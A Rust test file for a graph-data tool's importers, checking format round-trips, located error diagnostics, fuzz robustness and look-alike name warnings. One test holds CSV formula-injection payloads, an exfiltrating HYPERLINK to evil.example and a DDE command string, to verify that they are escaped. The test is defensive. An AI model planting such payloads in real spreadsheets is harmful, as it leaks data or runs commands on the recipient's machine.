//! Importing: our own exports come back with every field the format can
//! carry; broken files give located diagnostics, never a panic.

use alliance_map::check::render;
use alliance_map::formats::export::{csv, gexf, graphml};
use alliance_map::formats::import::{import, Format, Input};
use alliance_map::model::{Dataset, Source, SourceIx, Value};

fn round_trip(format: Format, texts: &[(&str, String)]) -> Dataset {
    let inputs: Vec<Input> = texts.iter().map(|(name, text)| Input { name, text }).collect();
    let checked = import(format, &inputs);
    assert!(checked.diagnostics.is_empty(), "{format:?}: {:#?}", checked.diagnostics);
    checked.dataset.unwrap()
}

/// Compares what every format carries: ids, names, kinds, aliases, relation
/// endpoints, types, shares, roles, statuses, notes and source ids.
fn assert_same_graph(format: Format, original: &Dataset, back: &Dataset) {
    assert_eq!(back.entities.len(), original.entities.len(), "{format:?}");
    for (a, b) in original.entities.iter().zip(&back.entities) {
        assert_eq!((&a.id, &a.name, a.kind), (&b.id, &b.name, b.kind), "{format:?}");
        assert_eq!(a.aliases, b.aliases, "{format:?} {}", a.id);
    }
    assert_eq!(back.relations.len(), original.relations.len(), "{format:?}");
    for (i, (a, b)) in original.relations.iter().zip(&back.relations).enumerate() {
        // A relation without an id is exported with its position as one.
        let id = if a.id.is_empty() { format!("r{}", i + 1) } else { a.id.clone() };
        assert_eq!((&id, a.kind, a.from, a.to), (&b.id, b.kind, b.from, b.to), "{format:?}");
        assert_eq!((a.share, &a.role, a.status, &a.note), (b.share, &b.role, b.status, &b.note), "{format:?} {}", a.id);
        assert_eq!(a.claim, b.claim, "{format:?} {}: who says it, how firmly, reported or inferred", a.id);
    }
    assert_eq!(relation_sources(back), relation_sources(original), "{format:?}: each relation cites the sources it cited");
}

/// Each relation's source ids, in the order cited.
fn relation_sources(data: &Dataset) -> Vec<Vec<&str>> {
    data.relations.iter().map(|r| r.sources.iter().map(|&s| data.source(s).id.as_str()).collect()).collect()
}

/// The ids of every source, sorted (formats that carry only ids name them in
/// the order first cited).
fn source_ids(data: &Dataset) -> Vec<&str> {
    let mut ids: Vec<&str> = data.sources.iter().map(|s| s.id.as_str()).collect();
    ids.sort_unstable();
    ids
}

/// Entity attributes, each as (key, value, ids of its sources, its claim).
fn attributes(data: &Dataset) -> Vec<Vec<(String, Value, Vec<String>, alliance_map::model::claim::Claim)>> {
    data.entities
        .iter()
        .map(|e| e.attributes.iter().map(|a| (a.key.clone(), a.value.clone(), a.sources.iter().map(|&s| data.source(s).id.clone()).collect(), a.claim.clone())).collect())
        .collect()
}

/// Relation dates and free attributes, which JGF carries as written.
fn relation_details(data: &Dataset) -> Vec<String> {
    data.relations.iter().map(|r| format!("{:?} {:?} {:?} {:?}", r.start, r.end, r.announced, r.attributes)).collect()
}

fn docs_example() -> Dataset {
    let text = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/docs_example.toml")).unwrap();
    alliance_map::check::check(&text).dataset.expect("the docs example checks clean")
}

/// Our export in each format, as the files `convert` would be given.
fn exports(data: &Dataset) -> Vec<(Format, Vec<(&'static str, String)>)> {
    vec![
        (Format::Gexf, vec![("map.gexf", gexf::to_gexf(data))]),
        (Format::Graphml, vec![("map.graphml", graphml::to_graphml(data))]),
        (Format::Jgf, vec![("map.json", serde_json::to_string(&alliance_map::formats::jgf::to_jgf(data)).unwrap())]),
        (Format::Csv, vec![("entities.csv", csv::entities_csv(data)), ("relations.csv", csv::relations_csv(data))]),
    ]
}

#[test]
fn gexf_graphml_jgf_and_csv_round_trip() {
    for (name, original) in [("seed", crate::seed::seed()), ("docs example", docs_example())] {
        for (format, texts) in exports(&original) {
            let back = round_trip(format, &texts);
            assert_same_graph(format, &original, &back);
            assert_eq!(source_ids(&back), source_ids(&original), "{name} {format:?}: exactly the original's sources, no `import`");
            match format {
                Format::Gexf => {
                    assert_eq!(attributes(&back), attributes(&original), "{name} {format:?}: entity attributes with their values, types and sources");
                }
                Format::Graphml => {
                    assert_eq!(attributes(&back), attributes(&original), "{name} GraphML: entity attributes with their values, types and sources");
                    assert_eq!(back.corrections, original.corrections, "{name}: GraphML's graph-level corrections");
                    assert_eq!(back.reactions, original.reactions, "{name}: GraphML's graph-level market reactions");
                }
                Format::Jgf => {
                    assert_eq!(back.sources, original.sources, "{name}: JGF carries whole source records");
                    assert_eq!(attributes(&back), attributes(&original), "{name}: JGF entity attributes with their sources");
                    assert_eq!(relation_details(&back), relation_details(&original), "{name}: JGF relation dates and attributes");
                    assert_eq!(back.meta, original.meta, "{name}: JGF title and description");
                    assert_eq!(back.corrections, original.corrections, "{name}: JGF corrections");
                    assert_eq!(back.reactions, original.reactions, "{name}: JGF market reactions");
                }
                Format::Csv | Format::Ftm => {}
            }
        }
    }
}

/// Sources a GEXF, GraphML or CSV file names carry only their ids: each
/// comes back titled by its id, with a note asking for the rest.
#[test]
fn sources_named_only_by_id_ask_for_their_details() {
    let seed = crate::seed::seed();
    let back = round_trip(Format::Gexf, &[("seed.gexf", gexf::to_gexf(&seed))]);
    for s in &back.sources {
        let expected = Source { id: s.id.clone(), title: s.id.clone(), note: "Named by seed.gexf (GEXF), which gives only its id; add its publisher, title, date and URL.".into(), ..Source::default() };
        assert_eq!(s, &expected);
    }
}

/// Other tools' files, as networkx, Gephi and a plain JGF writer make them:
/// no sources, so every fact cites the imported file, the one source.
const FOREIGN: &[(Format, &str, &str)] = &[
    (
        Format::Graphml,
        "karate.graphml",
        r#"<graphml><key id="d0" for="node" attr.name="club" attr.type="string"/><key id="d1" for="edge" attr.name="weight" attr.type="long"/>
<graph edgedefault="undirected"><node id="0"><data key="d0">Mr. Hi</data></node><node id="1"><data key="d0">Officer</data></node>
<edge source="0" target="1"><data key="d1">4</data></edge></graph></graphml>"#,
    ),
    (
        Format::Gexf,
        "les_miserables.gexf",
        r#"<gexf version="1.2"><graph defaultedgetype="undirected"><attributes class="node"><attribute id="0" title="group" type="long"/></attributes>
<nodes><node id="Myriel" label="Myriel"><attvalues><attvalue for="0" value="1"/></attvalues></node><node id="Napoleon" label="Napoleon"/></nodes>
<edges><edge source="Napoleon" target="Myriel" weight="1"/></edges></graph></gexf>"#,
    ),
    (
        Format::Jgf,
        "plain.json",
        r#"{"graph": {"nodes": {"a": {"label": "A", "metadata": {"colour": "red"}}, "b": {"label": "B"}}, "edges": [{"source": "a", "target": "b", "metadata": {"weight": 2}}]}}"#,
    ),
    (Format::Csv, "edges.csv", "Source,Target,Type,Weight
x,y,Undirected,3
"),
];

#[test]
fn foreign_files_cite_themselves() {
    for (format, name, text) in FOREIGN {
        let back = round_trip(*format, &[(name, text.to_string())]);
        let ids: Vec<&str> = back.sources.iter().map(|s| s.id.as_str()).collect();
        assert_eq!(ids, ["import"], "{name}");
        assert_eq!(back.sources[0].title, *name, "{name}: the import source is the file");
        assert!(!back.relations.is_empty(), "{name}");
        assert!(back.relations.iter().all(|r| r.sources == [SourceIx(0)]), "{name}: every relation cites the file");
        assert!(back.entities.iter().flat_map(|e| &e.attributes).all(|a| a.sources == [SourceIx(0)]), "{name}: every attribute cites the file");
    }
}

/// Attributes whose keys, values and types are awkward for columns: a key
/// repeated on one entity, one key holding text, numbers and booleans, keys
/// with spaces, dots and markup, an empty text, fractions and big numbers.
const AWKWARD_ATTRIBUTES: &str = r#"
[dataset]
title = "Awkward attributes"
[[source]]
id = "a"
title = "A"
[[source]]
id = "b_2"
title = "B"
[[entity]]
id = "x"
name = "X"
kind = "company"
sources = ["a"]
  [[entity.attribute]]
  key = "main_task"
  value = "first"
  sources = ["a"]
  [[entity.attribute]]
  key = "main_task"
  value = "second"
  sources = ["b_2", "a"]
  [[entity.attribute]]
  key = "size"
  value = 0.1
  sources = ["a"]
  [[entity.attribute]]
  key = "deal value <usd>"
  value = 12000000000000000000000.0
  sources = ["a"]
  [[entity.attribute]]
  key = "x.sources"
  value = ""
  sources = ["a"]
  [[entity.attribute]]
  key = "kind"
  value = "not the entity kind"
  sources = ["a"]
[[entity]]
id = "y"
name = "Y"
kind = "company"
sources = ["b_2", "a"]
  [[entity.attribute]]
  key = "size"
  value = "large"
  sources = ["b_2"]
  [[entity.attribute]]
  key = "listed"
  value = false
  sources = ["a"]
  [[entity.attribute]]
  key = "x"
  value = -3
  sources = ["a"]
[[relation]]
from = "x"
to = "y"
type = "owns"
sources = ["a"]
"#;

#[test]
fn awkward_attributes_round_trip_through_gexf_graphml_and_jgf() {
    let data = alliance_map::check::check(AWKWARD_ATTRIBUTES).dataset.expect("the fixture checks clean");
    let jgf = serde_json::to_string(&alliance_map::formats::jgf::to_jgf(&data)).unwrap();
    for (format, text) in [(Format::Gexf, gexf::to_gexf(&data)), (Format::Graphml, graphml::to_graphml(&data)), (Format::Jgf, jgf)] {
        let back = round_trip(format, &[("awkward", text)]);
        assert_eq!(attributes(&back), attributes(&data), "{format:?}");
    }
}

#[test]
fn graphml_keeps_partial_dates_exactly() {
    let seed = crate::seed::seed();
    let back = round_trip(Format::Graphml, &[("seed.graphml", graphml::to_graphml(&seed))]);
    for (a, b) in seed.relations.iter().zip(&back.relations) {
        assert_eq!((a.start, a.end, a.announced), (b.start, b.end, b.announced));
    }
}

/// (format, file name, text, expected "line:col code" of the first diagnostic)
const BROKEN: &[(Format, &str, &str, &str)] = &[
    (Format::Gexf, "bad-source.gexf", "<gexf><graph><nodes><node id=\"a\"/><node id=\"b\"/></nodes><edges>\n<edge source=\"a\" target=\"b\"><attvalues><attvalue for=\"sources\" value=\"wsj; Bad Id\"/></attvalues></edge>\n</edges></graph></gexf>", "2:1 E020"),
    (Format::Graphml, "bad-source.graphml", "<graphml><graph>\n<node id=\"a\"/>\n<node id=\"b\"/>\n<edge source=\"a\" target=\"b\"><data key=\"sources\">ok;NOT/OK</data></edge>\n</graph></graphml>", "4:1 E020"),
    (Format::Csv, "relations.csv", "Source,Target,Sources\na,b,ok\nb,a,ok;Not ok\n", "3:1 E020"),
    (Format::Jgf, "bad-source.json", "{\"graph\": {\"nodes\": {\"a\": {}, \"b\": {}}, \"edges\": [\n{\"source\": \"a\", \"target\": \"b\", \"metadata\": {\"sources\": [\"Bad Id\"]}}]}}", "2:2 E020"),
    (Format::Jgf, "bad-date.json", "{\"graph\": {\"metadata\": {\"sources\": [\n{\"id\": \"s\", \"title\": \"S\", \"date\": \"2023-13\"}]}, \"nodes\": {\"a\": {}, \"b\": {}}, \"edges\": [{\"source\": \"a\", \"target\": \"b\", \"metadata\": {\"sources\": [\"s\"]}}]}}", "2:8 E009"),
    (Format::Gexf, "bad.gexf", "<gexf><graph><nodes><node id=\"a\"></nodes></graph></gexf>", "1:"),
    (Format::Graphml, "bad.graphml", "<graphml><graph>\n<node id=\"a\"/>\n<edge source=\"a\"/>\n</graph></graphml>", "3:1 E003"),
    (Format::Graphml, "dangling.graphml", "<graphml><graph>\n<node id=\"a\"/>\n<edge source=\"a\" target=\"b\"/>\n</graph></graphml>", "3:1 W008"),
    (Format::Jgf, "bad.json", "{\"graph\": {\"nodes\": {\n\"a\": {}\n}, \"edges\": [}", "3:"),
    (Format::Csv, "relations.csv", "Source,Target\na,b\nc\n", "3:1 E003"),
];

#[test]
fn broken_files_are_reported_by_line_and_column() {
    for (format, name, text, expected) in BROKEN {
        let checked = import(*format, &[Input { name, text }]);
        assert!(checked.dataset.is_none() || !checked.diagnostics.is_empty(), "{name} should be reported");
        let first = checked.diagnostics.first().unwrap_or_else(|| panic!("{name}: no diagnostic"));
        let (line, col) = render::line_col(text, first.span.start);
        let got = format!("{line}:{col} {}", first.code.as_str());
        assert!(got.starts_with(expected), "{name}: got {got}, expected {expected}…: {}", first.message);
    }
}

#[test]
fn garbage_never_panics_an_importer() {
    let mut rng = alliance_map::synth::Rng::new(9);
    let pieces = ["<", ">", "<node id=\"", "\"", "/>", "<edge source=\"x\" target=\"y\">", "</edge>", "{", "}", "[", "]", ",", "\n", "&amp;", "&#0;", "é", "Source,Target\n"];
    for _ in 0..300 {
        let text: String = (0..rng.below(40)).map(|_| pieces[rng.below(pieces.len())]).collect();
        for format in [Format::Csv, Format::Gexf, Format::Graphml, Format::Jgf] {
            let checked = import(format, &[Input { name: "fuzz", text: &text }]);
            for d in &checked.diagnostics {
                assert!(d.span.end <= text.len() + 1, "{format:?}: span {:?} beyond {}", d.span, text.len());
            }
        }
    }
}

/// Our CSV export prefixes formula-like cells with `'`; importing it takes
/// exactly that `'` off again, and leaves a `'` the data had.
#[test]
fn csv_formula_cells_round_trip_to_their_original_text() {
    let original = crate::export::formula_dataset();
    let texts = [("entities.csv", csv::entities_csv(&original)), ("relations.csv", csv::relations_csv(&original))];
    let back = round_trip(Format::Csv, &texts);
    assert_same_graph(Format::Csv, &original, &back);
    assert_eq!(back.entities[0].name, "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")");
    assert_eq!(back.entities[0].aliases, ["+cmd|' /C calc'!A0", "@SUM(1+1)", "'=already quoted", "'plain"]);
    assert_eq!(back.relations[0].note, "\r=1+1");
}

/// Imported files meet the same name rules as TOML (they share
/// check::resolve): look-alikes warn, invisible-only names are errors.
#[test]
fn imported_look_alike_and_invisible_names_get_the_same_diagnostics() {
    let entities = "Id,Label\nhuawei,Huawei\nhuawei-zw,Huawei\u{200B}\nhuawei-cy,Huaw\u{0435}i\nblank,\u{200B}\u{FEFF}\n";
    let checked = import(Format::Csv, &[Input { name: "entities.csv", text: entities }]);
    let codes: Vec<&str> = checked.diagnostics.iter().map(|d| d.code.as_str()).collect();
    assert_eq!(codes, ["W003", "W004", "W003", "E014"], "{:#?}", checked.diagnostics);
    assert!(checked.dataset.is_none(), "a name blank to a reader is an error");
}

#[test]
fn jgf_nodes_with_escaped_names_import_whole_in_linear_time() {
    use alliance_map::formats::import::{import, Format, Input};
    // 40,000 such nodes took 17 s (each node's id searched from the file's
    // start); `cargo bench --bench check` prints the time at 20k and 40k.
    let text = alliance_map::synth::escaped_jgf(50);
    let checked = import(Format::Jgf, &[Input { name: "escapes.json", text: &text }]);
    let data = checked.dataset.expect("valid");
    assert_eq!(data.entities.len(), 50);
    assert_eq!(data.entities[7].name, "Naïve \"name\" \t7 😀 \\ back");
    assert_eq!(data.relations.len(), 50);
}
